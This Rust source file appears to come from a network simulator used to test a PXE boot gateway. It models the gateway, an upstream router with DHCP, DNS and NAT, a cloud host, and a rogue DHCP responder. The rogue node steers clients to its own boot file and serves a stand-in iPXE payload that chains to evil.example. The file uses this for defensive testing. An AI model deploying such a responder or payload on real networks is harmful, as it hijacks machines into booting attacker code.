//! Infrastructure nodes: the boot gateway with its bridge, the upstream
//! router (DHCP, DNS, NAT), the cloud host, and a rogue DHCP responder.

use std::any::Any;
use std::collections::BTreeMap;
use std::net::{Ipv4Addr, SocketAddrV4};
use std::path::PathBuf;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;

use serde::{Deserialize, Serialize};

use crate::cloud::{CloudConfig, CloudError, ControlPlane};
use crate::codec::dhcp::{
    DhcpMessage, MacAddr, MessageType, Op, OPT_BOOTFILE, OPT_DNS, OPT_LEASE_TIME,
    OPT_REQUESTED_IP, OPT_ROUTER, OPT_SERVER_ID, OPT_SUBNET_MASK, OPT_TFTP_SERVER,
    OPT_VENDOR_CLASS, PXE_VENDOR_CLASS,
};
use crate::codec::{self, ARecord, DnsAnswer, TftpPacket};
use crate::gateway::{
    AttachError, ConnectivityKind, Gateway, GatewayConfig, LeaseTable, ProbeStep, UpstreamAttach,
    UpstreamProbe,
};

use super::clock::{SimTime, MS};
use super::nat::NatBoundary;
use super::net::{Body, IfaceId, Packet, SegmentKind, BROADCAST};
use super::world::{Ctx, Node};

pub const DHCP_SERVER_PORT: u16 = 67;
pub const DHCP_CLIENT_PORT: u16 = 68;
pub const DNS_PORT: u16 = 53;
pub const TFTP_PORT: u16 = 69;
pub const HTTP_PORT: u16 = 80;

fn now_ms(ctx: &Ctx<'_>) -> u64 {
    ctx.now() / MS
}

macro_rules! any_impl {
    () => {
        fn as_any(&self) -> &dyn Any {
            self
        }
        fn as_any_mut(&mut self) -> &mut dyn Any {
            self
        }
    };
}

/// Attachment check against the segment's keying.
struct SegmentLink(SegmentKind);

impl UpstreamAttach for SegmentLink {
    fn attach(&mut self, kind: &ConnectivityKind) -> Result<(), AttachError> {
        match (&self.0, kind) {
            (SegmentKind::WifiKeyed { ssid, passphrase }, ConnectivityKind::Wifi { ssid: s, passphrase: p }) => {
                if ssid != s {
                    Err(AttachError::NoSuchNetwork)
                } else if passphrase != p {
                    Err(AttachError::AuthFailure)
                } else {
                    Ok(())
                }
            }
            (SegmentKind::CellularKeyed { apn }, ConnectivityKind::Cellular { apn: a, .. }) => {
                if apn == a {
                    Ok(())
                } else {
                    Err(AttachError::NoSuchNetwork)
                }
            }
            (SegmentKind::Broadcast | SegmentKind::PointToPoint, ConnectivityKind::Wired) => Ok(()),
            _ => Err(AttachError::NoSuchNetwork),
        }
    }
}

const TIMER_ATTACH: u64 = 0;
const TIMER_PROBE: u64 = 1;

/// The boot gateway between the client segment (`down`) and the upstream
/// link (`up`). In proxy mode it bridges the two, filtering boot-steering
/// DHCP replies coming from upstream.
pub struct GatewayNode {
    pub gateway: Arc<Gateway>,
    down: IfaceId,
    up: IfaceId,
    probe: Option<(UpstreamProbe, u64)>,
    next_token: u64,
    probe_token: Option<u64>,
    attach_token: Option<u64>,
    /// Time from a portal submission to the upstream attach attempt.
    pub attach_delay: SimTime,
    probes_started: u32,
}

impl GatewayNode {
    pub fn new(gateway: Arc<Gateway>, down: IfaceId, up: IfaceId) -> Self {
        Self {
            gateway,
            down,
            up,
            probe: None,
            next_token: 0,
            probe_token: None,
            attach_token: None,
            attach_delay: 500 * MS,
            probes_started: 0,
        }
    }

    fn token(&mut self, kind: u64) -> u64 {
        self.next_token += 1;
        (self.next_token << 1) | kind
    }

    fn schedule_attach(&mut self, ctx: &mut Ctx<'_>, delay: SimTime) {
        let t = self.token(TIMER_ATTACH);
        self.attach_token = Some(t);
        ctx.timer(delay, t);
    }

    fn do_attach(&mut self, ctx: &mut Ctx<'_>) {
        let mut link = SegmentLink(ctx.segment_kind(self.up).clone());
        self.probe = None;
        self.probe_token = None;
        match self.gateway.attach(&mut link, now_ms(ctx)) {
            Ok(epoch) => {
                ctx.set_attached(self.up, true);
                let mac = ctx.iface(self.up).mac;
                self.probes_started += 1;
                let xid = 0x5db0_0000 | self.probes_started;
                if let Some((probe, e)) = self.gateway.begin_probe(mac, xid) {
                    debug_assert_eq!(e, epoch);
                    self.probe = Some((probe, epoch));
                    self.probe_step(ctx);
                }
            }
            Err(_) => ctx.set_attached(self.up, false),
        }
    }

    fn probe_step(&mut self, ctx: &mut Ctx<'_>) {
        let Some((probe, epoch)) = self.probe.as_mut() else {
            return;
        };
        match probe.next_step() {
            ProbeStep::Send { discover, timeout_ms } => {
                if let Ok(raw) = codec::encode_dhcp(&discover) {
                    ctx.send(
                        self.up,
                        Packet::udp(
                            SocketAddrV4::new(Ipv4Addr::UNSPECIFIED, DHCP_CLIENT_PORT),
                            SocketAddrV4::new(BROADCAST, DHCP_SERVER_PORT),
                            raw,
                        ),
                    );
                }
                let t = self.token(TIMER_PROBE);
                self.probe_token = Some(t);
                ctx.timer(timeout_ms * MS, t);
            }
            ProbeStep::Done(mode) => {
                let epoch = *epoch;
                self.probe = None;
                self.probe_token = None;
                self.gateway.finish_probe(epoch, mode, now_ms(ctx));
            }
        }
    }

    fn is_proxy(&self) -> bool {
        !self.gateway.captive_dns_active()
    }

    fn gw_addr(&self, port: u16) -> SocketAddrV4 {
        SocketAddrV4::new(self.gateway.config().gateway_ip, port)
    }

    fn on_down(&mut self, ctx: &mut Ctx<'_>, pkt: Packet) {
        let gw_ip = self.gateway.config().gateway_ip;
        let now = now_ms(ctx);
        match &pkt.body {
            Body::Udp(raw) if pkt.dst.port() == DHCP_SERVER_PORT => {
                if let Some(reply) = self.gateway.handle_dhcp(raw, now) {
                    ctx.send(
                        self.down,
                        Packet::udp(
                            self.gw_addr(DHCP_SERVER_PORT),
                            SocketAddrV4::new(BROADCAST, DHCP_CLIENT_PORT),
                            reply,
                        ),
                    );
                }
                if self.is_proxy() {
                    ctx.send(self.up, pkt);
                }
                return;
            }
            _ if *pkt.dst.ip() != gw_ip => {
                if self.is_proxy() {
                    ctx.send(self.up, pkt);
                }
                return;
            }
            _ => {}
        }
        let peer = pkt.src;
        match pkt.body {
            Body::Udp(raw) if pkt.dst.port() == TFTP_PORT => {
                if let Some(reply) = self.gateway.handle_tftp((*peer.ip(), peer.port()), &raw) {
                    ctx.send(self.down, Packet::udp(self.gw_addr(TFTP_PORT), peer, reply));
                }
            }
            Body::Udp(raw) if pkt.dst.port() == DNS_PORT && self.gateway.captive_dns_active() => {
                if let Some(reply) = self.gateway.handle_dns(&raw) {
                    ctx.send(self.down, Packet::udp(self.gw_addr(DNS_PORT), peer, reply));
                }
            }
            Body::HttpRequest(req) if pkt.dst.port() == self.gateway.config().ports.http => {
                let req = req.with_remote(*peer.ip());
                let (resp, attach) = self.gateway.handle_http(&req, now);
                ctx.send(
                    self.down,
                    Packet::http_response(pkt.dst, peer, req.path.clone(), resp),
                );
                if attach.is_some() {
                    let delay = self.attach_delay;
                    self.schedule_attach(ctx, delay);
                }
            }
            _ => {}
        }
    }

    fn on_up(&mut self, ctx: &mut Ctx<'_>, pkt: Packet) {
        if let Body::Udp(raw) = &pkt.body {
            if pkt.dst.port() == DHCP_CLIENT_PORT {
                if let Ok(msg) = codec::decode_dhcp(raw) {
                    if let Some((probe, epoch)) = &self.probe {
                        if msg.transaction_id == probe.transaction_id() {
                            if let Some(mode) = probe.on_reply(&msg) {
                                let epoch = *epoch;
                                self.probe = None;
                                self.probe_token = None;
                                self.gateway.finish_probe(epoch, mode, now_ms(ctx));
                            }
                            return;
                        }
                    }
                }
                if self.is_proxy() && self.gateway.bridge_admits_from_upstream(raw, now_ms(ctx)) {
                    ctx.send(self.down, pkt);
                }
                return;
            }
        }
        if *pkt.dst.ip() == ctx.iface(self.up).ip {
            return;
        }
        if self.is_proxy() {
            ctx.send(self.down, pkt);
        }
    }
}

impl Node for GatewayNode {
    fn start(&mut self, ctx: &mut Ctx<'_>) {
        if self.gateway.profile().is_some() {
            self.schedule_attach(ctx, 0);
        }
    }

    fn on_packet(&mut self, ctx: &mut Ctx<'_>, iface: IfaceId, pkt: Packet) {
        if iface == self.down {
            self.on_down(ctx, pkt);
        } else if iface == self.up {
            self.on_up(ctx, pkt);
        }
    }

    fn on_timer(&mut self, ctx: &mut Ctx<'_>, token: u64) {
        if Some(token) == self.attach_token {
            self.attach_token = None;
            self.do_attach(ctx);
        } else if Some(token) == self.probe_token {
            self.probe_token = None;
            self.probe_step(ctx);
        }
    }

    any_impl!();
}

/// Addressing of the upstream network behind the gateway.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct UpstreamPlan {
    pub router_ip: Ipv4Addr,
    pub prefix: u8,
    pub pool_start: Ipv4Addr,
    pub pool_end: Ipv4Addr,
    pub gateway_uplink_ip: Ipv4Addr,
    pub nat_external_ip: Ipv4Addr,
    pub cloud_ip: Ipv4Addr,
}

impl Default for UpstreamPlan {
    fn default() -> Self {
        Self {
            router_ip: Ipv4Addr::new(10, 0, 2, 1),
            prefix: 24,
            pool_start: Ipv4Addr::new(10, 0, 2, 100),
            pool_end: Ipv4Addr::new(10, 0, 2, 199),
            gateway_uplink_ip: Ipv4Addr::new(10, 0, 2, 2),
            nat_external_ip: Ipv4Addr::new(100, 64, 0, 2),
            cloud_ip: Ipv4Addr::new(203, 0, 113, 10),
        }
    }
}

/// Upstream router: plain DHCP (no boot steering), a resolver with a static
/// zone, and NAT to the outside segment.
pub struct RouterNode {
    inside: IfaceId,
    outside: IfaceId,
    dhcp_cfg: GatewayConfig,
    leases: LeaseTable,
    pub nat: NatBoundary,
    zone: BTreeMap<String, Ipv4Addr>,
}

impl RouterNode {
    pub fn new(inside: IfaceId, outside: IfaceId, plan: &UpstreamPlan, zone: BTreeMap<String, Ipv4Addr>) -> Self {
        let dhcp_cfg = GatewayConfig {
            gateway_ip: plan.router_ip,
            subnet_prefix: plan.prefix,
            lease_pool_start: plan.pool_start,
            lease_pool_end: plan.pool_end,
            ..GatewayConfig::default()
        };
        Self {
            inside,
            outside,
            dhcp_cfg,
            leases: LeaseTable::new(),
            nat: NatBoundary::new(plan.nat_external_ip, 120 * super::clock::SEC),
            zone,
        }
    }

    fn addressed(&self, req: &DhcpMessage, kind: MessageType, ip: Ipv4Addr) -> DhcpMessage {
        let cfg = &self.dhcp_cfg;
        let mut m = DhcpMessage::reply_to(req, kind);
        m.your_ip = ip;
        let opts: [(u8, Vec<u8>); 5] = [
            (OPT_SERVER_ID, cfg.gateway_ip.octets().to_vec()),
            (OPT_LEASE_TIME, cfg.lease_ttl_secs.to_be_bytes().to_vec()),
            (OPT_SUBNET_MASK, cfg.subnet_mask().octets().to_vec()),
            (OPT_ROUTER, cfg.gateway_ip.octets().to_vec()),
            (OPT_DNS, cfg.gateway_ip.octets().to_vec()),
        ];
        for (code, value) in opts {
            m.set_option(code, value).expect("valid option");
        }
        m
    }

    fn dhcp(&mut self, raw: &[u8], now: u64) -> Option<DhcpMessage> {
        let msg = codec::decode_dhcp(raw).ok()?;
        if msg.op != Op::BootRequest {
            return None;
        }
        match msg.message_type()? {
            MessageType::Discover => {
                let ip = self.leases.allocate(msg.client_mac, &self.dhcp_cfg, now)?;
                Some(self.addressed(&msg, MessageType::Offer, ip))
            }
            MessageType::Request => {
                let server = msg.option_ip(OPT_SERVER_ID);
                if server.is_some_and(|s| s != self.dhcp_cfg.gateway_ip) {
                    self.leases.release(&msg.client_mac);
                    return None;
                }
                let ip = msg
                    .option_ip(OPT_REQUESTED_IP)
                    .filter(|ip| !ip.is_unspecified())
                    .unwrap_or(msg.client_ip);
                if self.leases.confirm(msg.client_mac, ip, &self.dhcp_cfg, now) {
                    Some(self.addressed(&msg, MessageType::Ack, ip))
                } else {
                    let mut nak = DhcpMessage::reply_to(&msg, MessageType::Nak);
                    nak.set_option(OPT_SERVER_ID, self.dhcp_cfg.gateway_ip.octets().to_vec())
                        .ok()?;
                    Some(nak)
                }
            }
            MessageType::Release => {
                self.leases.release(&msg.client_mac);
                None
            }
            _ => None,
        }
    }

    fn dns(&self, raw: &[u8]) -> Option<Vec<u8>> {
        let q = codec::decode_dns_query(raw).ok()?;
        let name = q.name.trim_end_matches('.').to_ascii_lowercase();
        let answer = match (q.qtype, self.zone.get(&name)) {
            (codec::dns::TYPE_A, Some(addr)) => DnsAnswer::to_query(
                &q,
                codec::dns::RCODE_NO_ERROR,
                vec![ARecord {
                    name: q.name.clone(),
                    ttl: 300,
                    addr: *addr,
                }],
            ),
            (_, Some(_)) => DnsAnswer::to_query(&q, codec::dns::RCODE_NO_ERROR, Vec::new()),
            (_, None) => DnsAnswer::to_query(&q, codec::dns::RCODE_NAME_ERROR, Vec::new()),
        };
        codec::encode_dns_answer(&answer).ok()
    }
}

impl Node for RouterNode {
    fn on_packet(&mut self, ctx: &mut Ctx<'_>, iface: IfaceId, mut pkt: Packet) {
        let router_ip = self.dhcp_cfg.gateway_ip;
        if iface == self.inside {
            match &pkt.body {
                Body::Udp(raw) if pkt.dst.port() == DHCP_SERVER_PORT => {
                    if let Some(reply) = self.dhcp(raw, now_ms(ctx)) {
                        if let Ok(bytes) = codec::encode_dhcp(&reply) {
                            ctx.send(
                                self.inside,
                                Packet::udp(
                                    SocketAddrV4::new(router_ip, DHCP_SERVER_PORT),
                                    SocketAddrV4::new(BROADCAST, DHCP_CLIENT_PORT),
                                    bytes,
                                ),
                            );
                        }
                    }
                }
                Body::Udp(raw) if *pkt.dst.ip() == router_ip && pkt.dst.port() == DNS_PORT => {
                    if let Some(reply) = self.dns(raw) {
                        ctx.send(
                            self.inside,
                            Packet::udp(SocketAddrV4::new(router_ip, DNS_PORT), pkt.src, reply),
                        );
                    }
                }
                _ if *pkt.dst.ip() == router_ip || pkt.is_broadcast() => {}
                _ if self.dhcp_cfg.in_subnet(*pkt.dst.ip()) => {}
                _ => {
                    if let Some(outside) = self.nat.outbound(pkt.src, ctx.now()) {
                        pkt.src = outside;
                        ctx.send(self.outside, pkt);
                    }
                }
            }
        } else if iface == self.outside {
            if let Some(inside) = self.nat.inbound(pkt.dst, ctx.now()) {
                pkt.dst = inside;
                ctx.send(self.inside, pkt);
            }
        }
    }

    any_impl!();
}

/// Records which node originated each authentication request the cloud saw.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct AuthObservation {
    pub seq: u64,
    pub origin: Option<usize>,
    pub at: SimTime,
}

/// The cloud host running the control plane behind the NAT.
pub struct CloudNode {
    iface: IfaceId,
    cfg: CloudConfig,
    clock: Arc<AtomicU64>,
    epoch_ms: u64,
    plane: Option<ControlPlane>,
    pub auth_observations: Vec<AuthObservation>,
    pub restarts: u32,
}

impl CloudNode {
    /// `epoch_ms` is the wall-clock time that simulated time zero maps to.
    pub fn new(iface: IfaceId, cfg: CloudConfig, epoch_ms: u64) -> Result<Self, CloudError> {
        let clock = Arc::new(AtomicU64::new(0));
        let plane = Self::open(&cfg, clock.clone(), epoch_ms)?;
        Ok(Self {
            iface,
            cfg,
            clock,
            epoch_ms,
            plane: Some(plane),
            auth_observations: Vec::new(),
            restarts: 0,
        })
    }

    fn open(cfg: &CloudConfig, clock: Arc<AtomicU64>, epoch_ms: u64) -> Result<ControlPlane, CloudError> {
        ControlPlane::open_with_clock(
            cfg.clone(),
            Arc::new(move || epoch_ms + clock.load(Ordering::Relaxed) / MS),
        )
    }

    pub fn plane(&self) -> Option<&ControlPlane> {
        self.plane.as_ref()
    }

    pub fn store_dir(&self) -> PathBuf {
        self.cfg.store_dir.clone()
    }

    /// Stops the control plane; requests are dropped until [`CloudNode::start_plane`].
    pub fn stop_plane(&mut self) {
        self.plane = None;
    }

    pub fn start_plane(&mut self) -> Result<(), CloudError> {
        self.plane = Some(Self::open(&self.cfg, self.clock.clone(), self.epoch_ms)?);
        self.restarts += 1;
        Ok(())
    }

    pub fn set_time(&self, now: SimTime) {
        self.clock.store(now, Ordering::Relaxed);
    }
}

impl Node for CloudNode {
    fn on_packet(&mut self, ctx: &mut Ctx<'_>, _iface: IfaceId, pkt: Packet) {
        self.set_time(ctx.now());
        let Some(plane) = &self.plane else {
            return;
        };
        if pkt.dst.port() != HTTP_PORT {
            return;
        }
        let Body::HttpRequest(req) = pkt.body else {
            return;
        };
        let req = req.with_remote(*pkt.src.ip());
        let before = plane.auth_log_len();
        let resp = plane.handle_http(&req);
        let after = plane.auth_log_len();
        if after > before {
            self.auth_observations.push(AuthObservation {
                seq: after as u64,
                origin: pkt.origin,
                at: ctx.now(),
            });
        }
        ctx.send(self.iface, Packet::http_response(pkt.dst, pkt.src, req.path.clone(), resp));
    }

    any_impl!();
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum RogueMode {
    /// Addressless PXE offers, imitating a ProxyDHCP server.
    Proxy,
    /// Complete offers: an address plus boot steering.
    Full,
}

/// A hostile DHCP responder that steers clients to its own boot file.
pub struct RogueNode {
    iface: IfaceId,
    ip: Ipv4Addr,
    mode: RogueMode,
    boot_file: String,
    payload: Arc<[u8]>,
    next_host: u8,
    transfers: BTreeMap<SocketAddrV4, crate::gateway::TftpTransfer>,
    pub offers_sent: u32,
}

impl RogueNode {
    pub fn new(iface: IfaceId, ip: Ipv4Addr, mode: RogueMode, boot_file: &str) -> Self {
        Self {
            iface,
            ip,
            mode,
            boot_file: boot_file.into(),
            payload: b"#!ipxe\nchain http://evil.example/pwn\n".to_vec().into(),
            next_host: 150,
            transfers: BTreeMap::new(),
            offers_sent: 0,
        }
    }

    pub fn payload(&self) -> &[u8] {
        &self.payload
    }

    fn steer(&self, m: &mut DhcpMessage) {
        m.server_ip = self.ip;
        m.boot_file = self.boot_file.clone();
        let set = |m: &mut DhcpMessage, code: u8, v: Vec<u8>| m.set_option(code, v).expect("valid option");
        set(m, OPT_SERVER_ID, self.ip.octets().to_vec());
        set(m, OPT_TFTP_SERVER, self.ip.to_string().into_bytes());
        set(m, OPT_BOOTFILE, self.boot_file.clone().into_bytes());
        set(m, OPT_VENDOR_CLASS, PXE_VENDOR_CLASS.as_bytes().to_vec());
        if self.mode == RogueMode::Full {
            set(m, OPT_SUBNET_MASK, vec![255, 255, 255, 0]);
            set(m, OPT_ROUTER, self.ip.octets().to_vec());
            set(m, OPT_DNS, self.ip.octets().to_vec());
            set(m, OPT_LEASE_TIME, 3600u32.to_be_bytes().to_vec());
        }
    }

    fn address(&mut self) -> Ipv4Addr {
        let o = self.ip.octets();
        let ip = Ipv4Addr::new(o[0], o[1], o[2], self.next_host);
        self.next_host = self.next_host.wrapping_add(1).max(150);
        ip
    }
}

impl Node for RogueNode {
    fn on_packet(&mut self, ctx: &mut Ctx<'_>, _iface: IfaceId, pkt: Packet) {
        let Body::Udp(raw) = &pkt.body else {
            return;
        };
        if pkt.dst.port() == DHCP_SERVER_PORT {
            let Ok(msg) = codec::decode_dhcp(raw) else {
                return;
            };
            if msg.op != Op::BootRequest {
                return;
            }
            let reply = match msg.message_type() {
                Some(MessageType::Discover) => {
                    let mut offer = DhcpMessage::reply_to(&msg, MessageType::Offer);
                    if self.mode == RogueMode::Full {
                        offer.your_ip = self.address();
                    }
                    self.steer(&mut offer);
                    offer
                }
                Some(MessageType::Request)
                    if self.mode == RogueMode::Full && msg.option_ip(OPT_SERVER_ID) == Some(self.ip) =>
                {
                    let mut ack = DhcpMessage::reply_to(&msg, MessageType::Ack);
                    ack.your_ip = msg.option_ip(OPT_REQUESTED_IP).unwrap_or(msg.client_ip);
                    self.steer(&mut ack);
                    ack
                }
                _ => return,
            };
            if let Ok(bytes) = codec::encode_dhcp(&reply) {
                self.offers_sent += 1;
                ctx.send(
                    self.iface,
                    Packet::udp(
                        SocketAddrV4::new(self.ip, DHCP_SERVER_PORT),
                        SocketAddrV4::new(BROADCAST, DHCP_CLIENT_PORT),
                        bytes,
                    ),
                );
            }
        } else if *pkt.dst.ip() == self.ip && pkt.dst.port() == TFTP_PORT {
            let Ok(req) = codec::decode_tftp(raw) else {
                return;
            };
            let reply = match &req {
                TftpPacket::ReadRequest { .. } => {
                    match crate::gateway::start_transfer(&req, &self.boot_file, self.payload.clone()) {
                        Ok((t, first)) => {
                            self.transfers.insert(pkt.src, t);
                            first
                        }
                        Err(e) => e,
                    }
                }
                TftpPacket::Ack { block } => match self.transfers.get_mut(&pkt.src).and_then(|t| t.on_ack(*block)) {
                    Some(p) => p,
                    None => return,
                },
                _ => return,
            };
            if let Ok(bytes) = codec::encode_tftp(&reply) {
                ctx.send(self.iface, Packet::udp(SocketAddrV4::new(self.ip, TFTP_PORT), pkt.src, bytes));
            }
        }
    }

    any_impl!();
}

/// MAC used for synthetic infrastructure interfaces.
pub fn infra_mac(n: u8) -> MacAddr {
    MacAddr([0x02, 0x5d, 0xb0, 0, 0, n])
}
